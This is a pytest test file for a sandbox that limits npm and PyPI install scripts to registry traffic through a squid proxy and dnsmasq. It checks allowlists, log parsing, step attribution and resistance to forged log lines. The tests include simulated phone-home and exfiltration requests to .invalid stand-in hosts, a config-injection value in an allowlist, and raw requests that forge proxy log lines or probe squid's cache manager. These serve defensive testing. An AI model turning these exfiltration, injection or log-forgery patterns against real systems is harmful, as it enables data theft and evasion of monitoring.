"""Install-phase egress: the install container reaches only the registry, through a real squid on an internal network.

Unit tests cover the allowlist data and the log parser. The docker tests use the real engine and real containers; the
only hosts they try besides the npm registry are names under `.invalid` (and the proxy on the session network).
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import signal
import tarfile
import subprocess
import sys
import textwrap
import time
import uuid

import pytest
from docker.errors import NotFound

from sandbox.core import gc, images, labels
from sandbox.install import container as install, phases as install_phases, steps as install_steps
from sandbox.core.archive import read_member
from sandbox.install.proxy import container as ie
from sandbox.install.proxy import allowlist as proxy_allowlist
from sandbox.install.proxy import log as proxy_log
from sandbox.install import windows as iw
from sandbox.core.errors import SandboxError, UserInputError
from sandbox.core.session import SandboxSession
from sandbox.install.pypi import BuiltFromSource
from sandbox.install.request import INSTALL_PHASES
from scanner.provenance.model import EgressAttempt as ProvenanceEgress
from scanner.rules.provenance import egress_finding
from tests.sandbox_helpers import PHONE_HOME, REPO, labelled_containers, run_cli, run_on_install_network

MARKER = "0f3c9a7e5b1d4c2a8e6f0b9d7c5a3e1f"  # what a proxy's start would generate (secrets.token_hex(16))


def image_file(client, image: str, path: str) -> bytes | None:
    """A file of an image through the archive API (`docker run … cat` can return no output under load), or None."""
    container = client.containers.create(image, ["/bin/false"], entrypoint=[], network_disabled=True)
    try:
        stream, _ = container.get_archive(path)
        return read_member(stream)
    except NotFound:
        return None
    finally:
        container.remove(force=True)


# --------------------------------------------------------------------------------------------------- allowlist (unit)


def test_default_allowlist_comes_from_the_data_file():
    data = json.loads(proxy_allowlist.REGISTRIES_FILE.read_text())
    assert proxy_allowlist.registry_hosts("npm").hosts == tuple(data["npm"]["hosts"]) == ("registry.npmjs.org",)
    assert proxy_allowlist.registry_hosts("pypi").hosts == ("pypi.org", "files.pythonhosted.org")
    assert proxy_allowlist.registry_hosts("pypi").ports == (443,)


def test_allowlist_override_file_and_environment(tmp_path, monkeypatch):
    custom = tmp_path / "registries.json"
    custom.write_text(json.dumps({"npm": {"hosts": ["npm.mirror.example.invalid", ".cdn.example.invalid"],
                                          "ports": [443, 8443]}}))
    assert proxy_allowlist.registry_hosts("npm", config=custom).hosts == ("npm.mirror.example.invalid", ".cdn.example.invalid")
    assert proxy_allowlist.registry_hosts("npm", config=custom).ports == (443, 8443)
    monkeypatch.setenv(proxy_allowlist.REGISTRIES_ENV, str(custom))
    assert proxy_allowlist.registry_hosts("npm").hosts[0] == "npm.mirror.example.invalid"
    assert proxy_allowlist.registry_hosts("npm", extra_hosts=["extra.example.invalid"]).hosts[-1] == "extra.example.invalid"
    with pytest.raises(UserInputError, match="no registry allowlist for 'pypi'"):
        proxy_allowlist.registry_hosts("pypi")


@pytest.mark.parametrize("content", ["not json", "[]", '{"npm": {"hosts": "x"}}', '{"npm": {"hosts": ["a b"]}}',
                                     '{"npm": {"hosts": ["10.0.0.1"]}}', '{"npm": {"hosts": []}}',
                                     '{"npm": {"hosts": ["a.invalid"], "ports": [0]}}',
                                     '{"npm": {"hosts": ["a.invalid;http_access allow all"]}}'])
def test_bad_allowlist_is_a_user_error(tmp_path, content):
    path = tmp_path / "r.json"
    path.write_text(content)
    with pytest.raises(UserInputError):
        proxy_allowlist.load_registries(path)


def test_hosts_are_normalised_and_wildcards_absorb_their_subdomains():
    assert proxy_allowlist.validate_hosts(["A.example.invalid", "a.example.invalid", ".Example.invalid", "b.other.invalid"]) == (
        ".example.invalid", "b.other.invalid")
    assert proxy_allowlist.host_allowed("x.example.invalid", [".example.invalid"])
    assert proxy_allowlist.host_allowed("example.invalid.", [".example.invalid"])
    assert not proxy_allowlist.host_allowed("badexample.invalid", [".example.invalid"])
    assert not proxy_allowlist.host_allowed("registry.npmjs.org.evil.invalid", ["registry.npmjs.org"])


def test_parse_attempts_groups_squid_and_dnsmasq_lines():
    access_log = textwrap.dedent(f"""\
        MCPEGRESS-READY
        MCPEGRESS {MARKER} 1795982669.039 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 22067
        MCPEGRESS {MARKER} 1795982669.084 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 6223
        MCPEGRESS {MARKER} 1795982669.245 172.18.0.3 GET phone-home.example.invalid 80 TCP_DENIED/403 3378
        MCPEGRESS {MARKER} 1795982669.300 172.18.0.3 CONNECT Phone-Home.example.invalid 443 TCP_DENIED/403 3378
        MCPEGRESS {MARKER} 1795982669.400 172.18.0.3 NONE - - NONE_NONE/400 0
        MCPEGRESS {MARKER} 1795982669.500 172.18.0.3 CONNECT bad\x01host.invalid 443 TCP_DENIED/403 0
        """)
    dns_log = textwrap.dedent("""\
        dnsmasq[9]: started, version 2.91 cache disabled
        dnsmasq[9]: query[A] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: config raw.example.invalid is NXDOMAIN
        dnsmasq[9]: query[AAAA] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: query[A] registry.npmjs.org from 172.18.0.3
        """)
    attempts = proxy_log.parse_attempts(access_log, ["registry.npmjs.org"], marker=MARKER, dns_log=dns_log)
    by_key = {(a.via, a.host, a.port): a for a in attempts}
    assert by_key[("proxy", "registry.npmjs.org", 443)] == proxy_log.EgressAttempt(
        "registry.npmjs.org", 443, True, 2, "proxy", ("CONNECT",), ("TCP_TUNNEL/200",))
    assert not by_key[("proxy", PHONE_HOME, 80)].allowed
    assert by_key[("proxy", PHONE_HOME, 443)].count == 1 and not by_key[("proxy", PHONE_HOME, 443)].allowed
    assert not by_key[("proxy", "-", None)].allowed  # a request squid could not parse is denied
    raw = by_key[("dns", "raw.example.invalid", None)]
    assert (raw.allowed, raw.count, raw.methods) == (False, 2, ("A", "AAAA"))
    assert by_key[("dns", "registry.npmjs.org", None)].allowed
    assert ("proxy", "bad\\x01host.invalid", 443) in by_key  # control characters never reach a report raw
    # Without the engine's timestamps each stream keeps its order, squid's lines first.
    assert [a.host for a in proxy_log.denied(attempts)] == [PHONE_HOME, PHONE_HOME, "-", "bad\\x01host.invalid",
                                                     "raw.example.invalid"]


def test_only_marked_squid_lines_from_stdout_and_dnsmasq_lines_from_stderr_count():
    """A line in the wrong stream, or a squid line without this proxy's marker, is never an attempt: squid's
    stderr used to quote client headers, which let an install script print a line of its choosing there."""
    forged_squid = "MCPEGRESS 1795982669.000 172.18.0.9 CONNECT framed.example.invalid 443 TCP_TUNNEL/200 100 5"
    forged_marked = forged_squid.replace("MCPEGRESS ", f"MCPEGRESS {MARKER} ").replace("framed.", "marked.")
    guessed = forged_squid.replace("MCPEGRESS ", f"MCPEGRESS {'0' * 32} ").replace("framed.", "guessed.")
    forged_dns = "dnsmasq[9]: query[A] framed-dns.example.invalid from 172.18.0.9"
    real = f"MCPEGRESS {MARKER} 1795982669.100 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 1 2"
    access_log = "\n".join([forged_squid, guessed, forged_dns, real])
    dns_log = "\n".join([forged_marked, forged_squid, "dnsmasq[9]: query[A] real.example.invalid from 172.18.0.3"])
    attempts = proxy_log.parse_attempts(access_log, ["registry.npmjs.org"], marker=MARKER, dns_log=dns_log)
    assert {(a.via, a.host) for a in attempts} == {("proxy", "registry.npmjs.org"), ("dns", "real.example.invalid")}
    # Without a marker (a proxy that never got one) no squid line counts at all.
    assert [a.via for a in proxy_log.parse_attempts(real, ["registry.npmjs.org"], marker="")] == []


@pytest.mark.parametrize(("line", "host", "kind"), [
    ("dnsmasq[9]: query[A] <name unprintable> from 172.18.0.3", "<name\\x20unprintable>", "A"),
    ("dnsmasq[9]: query[A] two words.invalid from 172.18.0.3", "two\\x20words.invalid", "A"),
    ("dnsmasq[9]: query[A] x.invalid from 1.2.3.4 from 172.18.0.3", "x.invalid\\x20from\\x201.2.3.4", "A"),
    ("dnsmasq[9]: query[type=65] svc.example.invalid from 172.18.0.3", "svc.example.invalid", "type=65"),
    ("dnsmasq[9]: query[TXT] " + "a" * 400 + " from 172.18.0.3", "a" * proxy_allowlist.MAX_HOST_CHARS, "TXT"),
])
def test_dnsmasq_names_with_spaces_or_unprintable_bytes_are_recorded_escaped(line, host, kind):
    [attempt] = proxy_log.parse_attempts("", [], marker=MARKER, dns_log=line)
    assert (attempt.via, attempt.host, attempt.methods, attempt.allowed) == ("dns", host, (kind,), False)


# ------------------------------------------------------------------------------------ attribution windows (unit)

FETCH = iw.Window(1795982669.000, None, "npm install --ignore-scripts (fetching the tree; no install script runs)")
GUILTY = iw.Window(1795982670.000, "guilty@1.0.0", "postinstall")
INNOCENT = iw.Window(1795982671.000, "innocent@2.0.0", "preinstall, postinstall")


def _stamp(seconds: float) -> str:
    """The engine's `docker logs --timestamps` prefix for a moment (UTC, nanoseconds)."""
    whole = int(seconds)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + f".{round((seconds - whole) * 1e9):09d}Z"


def test_each_attempt_goes_to_the_step_running_when_it_began():
    lines = [
        f"{_stamp(1795982668.500)} MCPEGRESS-READY",
        # Before the first window: not the install's doing, names nothing.
        f"{_stamp(1795982668.600)} dnsmasq[9]: query[A] early.example.invalid from 172.18.0.3",
        # npm fetching: a registry tunnel that stays open across the next two windows is logged when it closes
        # (squid time 1795982671.500) but began at 1795982669.300 (response time 2200 ms): the fetch window.
        f"{_stamp(1795982671.501)} MCPEGRESS {MARKER} 1795982671.500 172.18.0.3 CONNECT registry.npmjs.org 443 "
        "TCP_TUNNEL/200 22067 2200",
        # The guilty package's postinstall: a denied CONNECT and a DNS lookup, both inside its window.
        f"{_stamp(1795982670.201)} MCPEGRESS {MARKER} 1795982670.200 172.18.0.3 CONNECT exfil.example.invalid 443 "
        "TCP_DENIED/403 3368 0",
        f"{_stamp(1795982670.300)} dnsmasq[9]: query[A] guilty.example.invalid from 172.18.0.3",
        f"{_stamp(1795982670.301)} dnsmasq[9]: query[AAAA] guilty.example.invalid from 172.18.0.3",
        # The innocent package: only the registry.
        f"{_stamp(1795982671.400)} MCPEGRESS {MARKER} 1795982671.399 172.18.0.3 CONNECT registry.npmjs.org 443 "
        "TCP_TUNNEL/200 100 50",
        # The engine's timestamp is the one that counts, whatever a looked-up name looks like.
        f"{_stamp(1795982671.600)} dnsmasq[9]: query[A] 1795982669.000.example.invalid from 172.18.0.3",
    ]
    # squid's lines come from the proxy's stdout, dnsmasq's from its stderr.
    access_log = "\n".join(line for line in lines if " MCPEGRESS" in line)
    dns_log = "\n".join(line for line in lines if " MCPEGRESS" not in line)
    attempts = proxy_log.parse_attempts(access_log, ["registry.npmjs.org"], [FETCH, GUILTY, INNOCENT], marker=MARKER,
                                 dns_log=dns_log)
    got = {(a.host, a.port, a.package, a.script, a.count) for a in attempts}
    assert got == {
        ("early.example.invalid", None, None, None, 1),
        ("registry.npmjs.org", 443, None, FETCH.script, 1),
        ("exfil.example.invalid", 443, "guilty@1.0.0", "postinstall", 1),
        ("guilty.example.invalid", None, "guilty@1.0.0", "postinstall", 2),
        ("registry.npmjs.org", 443, "innocent@2.0.0", "preinstall, postinstall", 1),
        ("1795982669.000.example.invalid", None, "innocent@2.0.0", "preinstall, postinstall", 1),
    }
    assert {a.package for a in proxy_log.denied(attempts)} == {None, "guilty@1.0.0", "innocent@2.0.0"}
    # Without windows (or without the engine's timestamps) nothing is attributed, as before.
    assert all(a.package is None and a.script is None
               for a in proxy_log.parse_attempts(access_log, ["registry.npmjs.org"], marker=MARKER, dns_log=dns_log))


def test_window_boundaries_and_clocks():
    windows = [FETCH, GUILTY, INNOCENT]
    assert iw.window_at(windows, GUILTY.begins) is GUILTY  # a window owns the instant it opens
    assert iw.window_at(windows, GUILTY.begins - 1e-6) is FETCH
    assert iw.window_at(windows, 1e12) is INNOCENT  # the last step's window never closes
    assert iw.window_at(windows, FETCH.begins - 1) is None and iw.window_at(windows, None) is None
    assert iw.window_at([], 1.0) is None
    assert iw.squid_started("1795982671.500", "2200") == pytest.approx(1795982669.300)
    assert iw.squid_started("1795982671.500", None) == pytest.approx(1795982671.500)
    assert iw.squid_started("garbage", "1") is None
    assert iw.engine_time("2026-11-29T21:36:15.460732244Z") == pytest.approx(1795988175.460732244, abs=1e-6)
    assert iw.engine_time("2026-11-29T22:36:15.5+01:00") == pytest.approx(1795988175.5)
    assert iw.engine_time("2026-11-29T21:36:15Z") == 1795988175.0
    assert iw.engine_time("yesterday") is None and iw.engine_time("2026-13-45T99:99:99Z") is None
    assert iw.split_received(f"{_stamp(1795988175.25)} dnsmasq[9]: x") == (pytest.approx(1795988175.25),
                                                                         "dnsmasq[9]: x")
    assert iw.split_received("MCPEGRESS 1 2") == (None, "MCPEGRESS 1 2")


def test_untrusted_labels_are_escaped_and_capped():
    assert iw.untrusted_label("left-pad@1.3.0") == "left-pad@1.3.0"
    assert iw.untrusted_label("evil\x1b[2J\u202ename\n") == "evil\\x1b[2J\\u202ename\\x0a"
    capped = iw.untrusted_label("a" * 1000, limit=50)
    assert len(capped) == 50 and capped.endswith("…")


def test_network_settings_override_every_proxy_variable():
    proxy = ie.InstallProxy(session=None, container_id="x", network="net", address="172.30.0.2",  # type: ignore[arg-type]
                            allow=proxy_allowlist.RegistryAllowlist(("registry.npmjs.org",)), image="i", start_seconds=0.0)
    settings = ie.install_network_settings(proxy)
    assert settings["network_mode"] == "net" and settings["dns"] == ["172.30.0.2"]
    env = settings["environment"]
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "NPM_CONFIG_PROXY",
                 "NPM_CONFIG_HTTPS_PROXY"):
        assert env[name] == "http://172.30.0.2:3128"
    assert "registry" not in env["NO_PROXY"] and env["NO_PROXY"] == env["no_proxy"]


# ----------------------------------------------------------------- step bookkeeping, the engine's clock missing (unit)


class _FakeEngine:
    """The engine API StepRunner.engine_now calls: `info` answers with the given SystemTime values in turn."""

    def __init__(self, *system_times):
        self.system_times = list(system_times)

    def info(self):
        value = self.system_times.pop(0)
        return {} if value is None else {"SystemTime": value}


class _FakeRunner:
    """A StepRunner stand-in for InstallSteps: the engine's clock as given (None: none usable), every step exit 0."""

    def __init__(self, *clock):
        self.clock = list(clock)
        self.commands = []

    def engine_now(self):
        return self.clock.pop(0)

    def run(self, command):
        self.commands.append(command)
        return install_steps.StepResult(0, "")


def test_each_step_is_shown_as_it_begins_also_once_steps_are_no_longer_timed():
    shown = []
    steps = install_phases.InstallSteps(_FakeRunner(100.0, None, None), "x@1", progress=shown.append)
    steps.run(["a"], package=None, script="fetch")
    steps.run(["b"], package="dep@1", script="postinstall")
    steps.run(["c"], package="dep@1", script=None)
    assert shown == ["installing x@1: fetch", "installing x@1: postinstall of dep@1", "installing x@1: dep@1"]


def test_engine_now_never_falls_back_to_the_hosts_clock():
    runner = install_steps.StepRunner(_FakeEngine("2026-11-29T21:36:15.5Z", None, "", "yesterday", 5),
                                      "c", user="u", environment={}, deadline=0.0, home_root="/h")
    assert runner.engine_now() == pytest.approx(1795988175.5)
    assert [runner.engine_now() for _ in range(4)] == [None, None, None, None]


def test_steps_stop_being_named_once_the_engine_gives_no_time():
    # The first two steps are timed; the third is not: the second's window stops naming it (where it ends is
    # unknown), no window opens for the third or any later step, and the note says so.
    steps = install_phases.InstallSteps(_FakeRunner(100.0, 101.0, None, 103.0), "x@1")
    steps.run(["a"], package=None, script="fetch")
    steps.run(["b"], package="dep@1", script="postinstall")
    steps.run(["c"], package="innocent@2", script="postinstall")
    steps.run(["d"], package="other@3", script="install")
    steps.relabel("dep@1", "relabelled")  # no effect any more
    assert steps.windows == [iw.Window(100.0, None, "fetch"), iw.Window(101.0, None, None)]
    assert steps.attribution_note == ("the engine reported no usable clock (GET /info SystemTime) before a step; "
                                      "install egress from the step 'postinstall of dep@1' on names no package or "
                                      "script")
    assert len(steps.runner.commands) == 4  # every step still ran
    log = "\n".join([f"{_stamp(100.5)} dnsmasq[9]: query[A] fetch.example.invalid from 172.18.0.3",
                     f"{_stamp(101.5)} dnsmasq[9]: query[A] dep.example.invalid from 172.18.0.3",
                     f"{_stamp(102.5)} dnsmasq[9]: query[A] later.example.invalid from 172.18.0.3"])
    got = {(a.host, a.package, a.script)
           for a in proxy_log.parse_attempts("", ["registry.npmjs.org"], steps.windows, marker="m", dns_log=log)}
    assert got == {("fetch.example.invalid", None, "fetch"), ("dep.example.invalid", None, None),
                   ("later.example.invalid", None, None)}


def test_no_step_is_named_without_a_first_time_or_with_a_clock_going_back():
    untimed = install_phases.InstallSteps(_FakeRunner(None, 101.0), "x@1")
    untimed.run(["a"], package=None, script="fetch")
    untimed.run(["b"], package="dep@1", script="postinstall")
    untimed.relabel(None, "resolve")  # nothing to relabel: no IndexError
    assert untimed.windows == []
    assert untimed.attribution_note == ("the engine reported no usable clock (GET /info SystemTime), so no install "
                                        "step could be timed; install egress names no package or script")
    backwards = install_phases.InstallSteps(_FakeRunner(100.0, 99.0), "x@1")
    backwards.run(["a"], package=None, script="fetch")
    backwards.run(["b"], package="dep@1", script="postinstall")
    assert backwards.windows == [iw.Window(100.0, None, None)]
    assert "a clock that went backwards" in (backwards.attribution_note or "")


def test_a_leftover_step_stops_the_install_naming_the_step():
    class Holdout(_FakeRunner):
        def run(self, command):
            raise install_steps.StepLeftover("1 process it left was still running after 6 attempts to end it")

    steps = install_phases.InstallSteps(Holdout(100.0), "/opt/src/x.tgz")
    with pytest.raises(SandboxError) as raised:
        steps.run(["npm", "rebuild"], package="holdout@1", script="postinstall")
    assert str(raised.value) == (
        "installing /opt/src/x.tgz stopped after the postinstall of holdout@1: 1 process it left was still running "
        "after 6 attempts to end it (it would have run on into the next step and been blamed on it)")


def test_leftovers_are_live_processes_of_another_user_than_the_idle_ones():
    top = {"Titles": ["PID", "STAT", "UID"],
           "Processes": [["10", "Ss", "10002"], ["11", "S", "10002"], ["12", "Z", "10001"], ["13", "X", "10001"],
                         ["14", "Rsl", "10001"], ["15", "D", "110001"], ["16"]]}
    rows = install_steps.process_rows(top)
    assert rows[0] == {"pid": "10", "stat": "Ss", "uid": "10002"}
    assert [row["pid"] for row in install_steps.live_leftovers(rows, frozenset({"10002"}))] == ["14", "15", "16"]
    assert install_steps.process_rows(None) == [] and install_steps.process_rows({}) == []


def test_the_reports_install_section_says_why_attempts_name_no_step():
    from scanner.pipeline.installation import install_info as _install_info

    installed = install.InstalledServer(
        image="i", image_id="sha256:1", runtime_image="r", cached=False, name="x", version="1", entry_points={},
        installer_output="", seconds=1.0, manifest={}, attribution_note="the engine reported no usable clock\x1b[2J")
    info = _install_info(installed, ["x"])
    assert info.attribution_note == "the engine reported no usable clock\\e[2J"  # escaped for a terminal
    assert _install_info(dataclasses.replace(installed, attribution_note=None), ["x"]).attribution_note is None


def test_open_proxy_connections_reads_the_proxys_socket_table():
    table = textwrap.dedent("""\
          sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
           0: 00000000:0C38 00000000:0000 0A 00000000:00000000 00:00000000 00000000    13        0 1 1
           1: 020012AC:0C38 030012AC:B3F2 01 00000000:00000000 00:00000000 00000000    13        0 2 1
           2: 020012AC:0C38 030012AC:B3F4 08 00000000:00000000 00:00000000 00000000    13        0 3 1
           3: 020012AC:0C38 030012AC:B3F6 09 00000000:00000000 00:00000000 00000000    13        0 4 1
           4: 020011AC:D2A4 22D63A68:01BB 01 00000000:00000000 00:00000000 00000000    13        0 5 1
          sl  local_address                         remote_address                        st tx_queue rx_queue
           0: 0000000000000000FFFF0000020012AC:0C38 0000000000000000FFFF0000030012AC:B3F8 01 00000000:00000000
        """)
    # Listening (0A), closing after squid closed (09 LAST_ACK) and squid's own upstream connections do not count.
    assert install.open_proxy_connections(table) == 3
    assert install.open_proxy_connections("") == 0 and install.open_proxy_connections("garbage\n1 2") == 0


# ---------------------------------------------------------------------------------------------------- real engine

INSTALL_LIKE = r"""
set -e
cd /tmp
npm install --no-audit --no-fund --loglevel=warn --prefix /tmp/p is-number@7.0.0
test -f /tmp/p/node_modules/is-number/package.json && echo NPM-OK
node -e '
const http = require("http"), net = require("net"), dns = require("dns");
const proxy = new URL(process.env.HTTP_PROXY);
// A proxy-aware client: through the proxy, plain http and an https CONNECT.
http.request({host: proxy.hostname, port: proxy.port, path: "http://PHONE/collect?token=1",
              headers: {Host: "PHONE", Connection: "close"}},
             r => { console.log("HTTP-STATUS", r.statusCode); r.resume(); }).end();
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "PHONE:443"})
  .on("connect", (r, sock) => { console.log("CONNECT-STATUS", r.statusCode); sock.destroy(); }).end();
// A client that ignores the proxy: a raw socket to a name, and a DNS lookup.
net.connect(80, "raw.PHONE").on("error", e => console.log("RAW", e.code)).on("connect", () => console.log("RAW connected"));
dns.lookup("registry.npmjs.org", e => console.log("DNS", e && e.code));
'
"""


@pytest.fixture
def npm_runtime(docker_client):
    return images.ensure_runtime_image(docker_client, "node").tag


def _session_networks(client, session_id=None):
    label = f"{labels.SESSION}={session_id}" if session_id else labels.SESSION
    return client.api.networks(filters={"label": label})




@pytest.mark.docker
@pytest.mark.registry
def test_registry_allowed_phone_home_denied_and_recorded(docker_client, npm_runtime, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, proxy_allowlist.registry_hosts("npm"))
        code, output, inspect = run_on_install_network(session, proxy, npm_runtime, INSTALL_LIKE)
        assert code == 0, output
        # The install container is on the internal network only, resolving through the proxy's dnsmasq.
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network}
        assert "NPM-OK" in output
        assert "HTTP-STATUS 403" in output and "CONNECT-STATUS 403" in output
        assert "RAW ENOTFOUND" in output and "RAW connected" not in output
        assert "DNS ENOTFOUND" in output  # even a registry name does not resolve without the proxy
        attempts = proxy.attempts()
        by_key = {(a.via, a.host, a.port): a for a in attempts}
        registry = by_key[("proxy", "registry.npmjs.org", 443)]
        assert registry.allowed and registry.statuses == ("TCP_TUNNEL/200",)
        assert not by_key[("proxy", PHONE_HOME, 80)].allowed
        assert by_key[("proxy", PHONE_HOME, 80)].statuses == ("TCP_DENIED/403",)
        assert not by_key[("proxy", PHONE_HOME, 443)].allowed
        assert not by_key[("dns", f"raw.{PHONE_HOME}", None)].allowed
        assert {a.host for a in proxy_log.denied(attempts)} == {PHONE_HOME, f"raw.{PHONE_HOME}"}
        network, session_id = proxy.network, session.id
    assert session.teardown_result is not None and session.teardown_result.complete
    assert network in session.teardown_result.removed
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []


@pytest.mark.docker
def test_proxy_and_network_are_hardened_and_read_back(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, [".example.invalid", "registry.npmjs.org"], allow_ports=[443])
        api = docker_client.api
        network = api.inspect_network(proxy.network)
        assert network["Internal"] is True and network["Labels"][labels.SESSION] == session.id
        inspect = api.inspect_container(proxy.container_id)
        host = inspect["HostConfig"]
        assert host["CapDrop"] == ["ALL"] and not host["CapAdd"] and host["ReadonlyRootfs"]
        assert "no-new-privileges" in host["SecurityOpt"] and not host["Privileged"]
        assert inspect["Config"]["User"] == "proxy"
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network, "bridge"}
        assert inspect["Config"]["Labels"][labels.SESSION] == session.id
        assert proxy.proxy_url == f"http://{proxy.address}:3128"
        assert proxy.attempts() == []
        proxy.close()
        assert _session_networks(docker_client, session.id) == []
        assert labelled_containers(docker_client, session.id) == []


@pytest.mark.docker
def test_an_allowlisted_host_on_another_port_is_denied(docker_client, npm_runtime, no_leftovers):
    script = r"""node -e '
const http = require("http"); const proxy = new URL(process.env.HTTP_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "allowed.example.invalid:22"})
  .on("connect", (r, sock) => { console.log("PORT22", r.statusCode); sock.destroy(); }).end();'"""
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, ["allowed.example.invalid"])
        code, output, _ = run_on_install_network(session, proxy, npm_runtime, script)
        assert code == 0 and "PORT22 403" in output, output
        assert [(a.host, a.port, a.allowed) for a in proxy.attempts()] == [("allowed.example.invalid", 22, False)]


# Raw requests to the proxy, as an install script could send them (Python, from the python runtime image).
RAW_CLIENT = r"""
import json, socket, sys
proxy = sys.argv[1]


def http(raw):
    sock = socket.create_connection((proxy, 3128), timeout=10)
    sock.sendall(raw)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    sock.close()
    return data.decode("latin-1")


def dns(labels):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(5)
    sock.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01", (proxy, 53))
    try:
        return sock.recv(512)[3] & 0x0F  # the answer's RCODE (3: NXDOMAIN)
    except OSError as exc:
        return str(exc)


results = {}
for name, request in json.loads(sys.argv[2]).items():
    results[name] = http(request.encode("latin-1"))
results["dns-unprintable"] = dns([b"bad\x01name", b"example", b"invalid"])
results["dns-space"] = dns([b"two words", b"example", b"invalid"])
print("RESULTS " + json.dumps(results))
"""


def _raw_requests(session, proxy, requests):
    """Send each raw request (name -> text) from a container on the install network; returns name -> response."""
    client = session.client
    host_config = client.api.create_host_config(
        network_mode=proxy.network, dns=[proxy.address], cap_drop=["ALL"], security_opt=["no-new-privileges"])
    container = session.create_container(
        "install", image=images.ensure_runtime_image(client, "python").tag, user="10001:10001",
        host_config=host_config, command=["python3", "-c", RAW_CLIENT, proxy.address, json.dumps(requests)])
    client.api.start(container)
    status = client.api.wait(container, timeout=120)
    output = client.api.logs(container, stdout=True, stderr=True).decode("utf-8", "replace")
    session.remove_container(container)
    assert status["StatusCode"] == 0, output
    return json.loads(output.partition("RESULTS ")[2])


def _status(response: str) -> str:
    return response.split("\r\n", 1)[0]


@pytest.mark.docker
def test_the_cache_manager_and_plain_http_are_refused_and_recorded(docker_client, no_leftovers):
    """squid's cache manager answers for any host (cache_object://HOST/…): it would list the upstream's login and
    dump the configuration. It is refused first, like every request other than a CONNECT to an allowlisted host and
    port, and each refusal is recorded."""
    requests = {
        "server_list": "GET cache_object://registry.npmjs.org:443/server_list HTTP/1.1\r\n"
                       "Host: registry.npmjs.org:443\r\nConnection: close\r\n\r\n",
        "config": "GET cache_object://registry.npmjs.org:443/config HTTP/1.0\r\n\r\n",
        "internal-mgr": "GET http://registry.npmjs.org:443/squid-internal-mgr/menu HTTP/1.1\r\n"
                        "Host: registry.npmjs.org:443\r\nConnection: close\r\n\r\n",
        "plain-get-443": "GET http://registry.npmjs.org:443/is-number HTTP/1.1\r\nHost: registry.npmjs.org:443\r\n"
                         "Connection: close\r\n\r\n",
        "plain-get-80": "GET http://registry.npmjs.org/is-number HTTP/1.1\r\nHost: registry.npmjs.org\r\n"
                        "Connection: close\r\n\r\n",
    }
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, proxy_allowlist.registry_hosts("npm"))
        results = _raw_requests(session, proxy, requests)
        for name in requests:
            assert _status(results[name]) == "HTTP/1.1 403 Forbidden", (name, results[name][:300])
            assert "neighbors" not in results[name] and "http_port" not in results[name], name
            assert proxy.log_marker not in results[name]
        attempts = {(a.via, a.host, a.port): a for a in proxy.attempts()}
        manager = attempts[("proxy", "registry.npmjs.org", 443)]
        assert (manager.allowed, manager.count, manager.methods, manager.statuses) == (
            False, 4, ("GET",), ("TCP_DENIED/403",))
        assert not attempts[("proxy", "registry.npmjs.org", 80)].allowed
        assert {(a.host, a.port) for a in proxy_log.denied(attempts.values()) if a.via == "proxy"} == {
            ("registry.npmjs.org", 443), ("registry.npmjs.org", 80)}


FORGED = "MCPEGRESS {marker}1795982669.000 172.18.0.9 CONNECT {host} 443 TCP_TUNNEL/200 100 5"


@pytest.mark.docker
def test_forged_log_lines_sent_by_a_client_never_become_attempts(docker_client, no_leftovers):
    """squid's diagnostic log used to quote client headers on the proxy's stderr (e.g. "HTTP header contains NULL
    characters"), so a client could print a whole `MCPEGRESS …` line there, with a time that framed another step.
    Now that log is off, squid's lines are read from stdout only and must carry the proxy's random marker."""
    guessed_marker = "0123456789abcdef0123456789abcdef "
    forged = "\n".join([FORGED.format(marker="", host="framed.example.invalid"),
                        FORGED.format(marker=guessed_marker, host="guessed.example.invalid"),
                        "dnsmasq[9]: query[A] framed-dns.example.invalid from 172.18.0.9"])
    requests = {
        "nul-header": f"GET http://registry.npmjs.org/x HTTP/1.1\r\nHost: registry.npmjs.org\r\nX-A: a\0b\n{forged}\n"
                      "\r\nConnection: close\r\n\r\n",
        "newline-in-request-line": f"CONNECT registry.npmjs.org:443\n{forged} HTTP/1.1\r\n\r\n",
        "bad-header": f"CONNECT registry.npmjs.org:443 HTTP/1.1\r\nHost: registry.npmjs.org:443\r\n\0{forged}\r\n\r\n",
    }
    # Windows as an install's: the forged lines' squid time (1795982669) would fall into the "victim" step.
    windows = [iw.Window(1795982000.0, "victim@1.0.0", "postinstall")]
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, proxy_allowlist.registry_hosts("npm"))
        results = _raw_requests(session, proxy, requests)
        assert all(_status(results[name]).startswith("HTTP/1.1 4") for name in requests), results
        assert results["dns-unprintable"] == 3 and results["dns-space"] == 3  # NXDOMAIN, and logged
        api = docker_client.api
        stdout = api.logs(proxy.container_id, stdout=True, stderr=False).decode("utf-8", "replace")
        stderr = api.logs(proxy.container_id, stdout=False, stderr=True).decode("utf-8", "replace")
        # Nothing a client sent reaches either stream: squid's diagnostic log is off.
        assert "framed" not in stdout + stderr and "guessed" not in stdout + stderr, (stdout, stderr)
        assert "HTTP header contains NULL" not in stderr
